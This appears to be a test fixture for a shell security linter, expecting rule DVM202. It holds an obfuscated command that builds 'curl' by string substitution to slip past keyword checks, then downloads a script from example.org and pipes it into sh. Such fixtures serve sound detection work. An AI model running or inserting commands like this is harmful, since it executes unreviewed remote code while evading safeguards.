# expect: DVM202
x=cXrl
"${x/X/u}" -s https://example.org/i.sh | sh
